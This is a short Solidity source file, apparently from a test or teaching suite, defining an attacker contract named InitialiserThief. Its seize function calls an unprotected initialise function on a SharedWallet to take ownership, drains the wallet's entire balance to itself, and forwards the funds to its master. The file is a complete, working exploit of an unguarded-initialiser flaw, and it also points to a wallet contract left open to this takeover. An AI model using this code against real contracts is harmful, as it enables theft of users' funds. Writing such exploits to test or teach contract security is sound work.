// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

import {Address} from "@openzeppelin/contracts/utils/Address.sol";
import {SharedWallet} from "../SharedWallet.sol";
import {Thief} from "./Thief.sol";

/// @title Makes itself the owner of a wallet and empties it in one call.
contract InitialiserThief is Thief {
    /// @notice Accepts what the wallet pays.
    receive() external payable {}

    /// @notice Takes over `wallet`, takes all it holds, and sends it to the master.
    function seize(SharedWallet wallet) external onlyMaster {
        wallet.initialise(address(this));
        wallet.pay(payable(address(this)), address(wallet).balance);
        Address.sendValue(payable(_master), address(this).balance);
    }
}
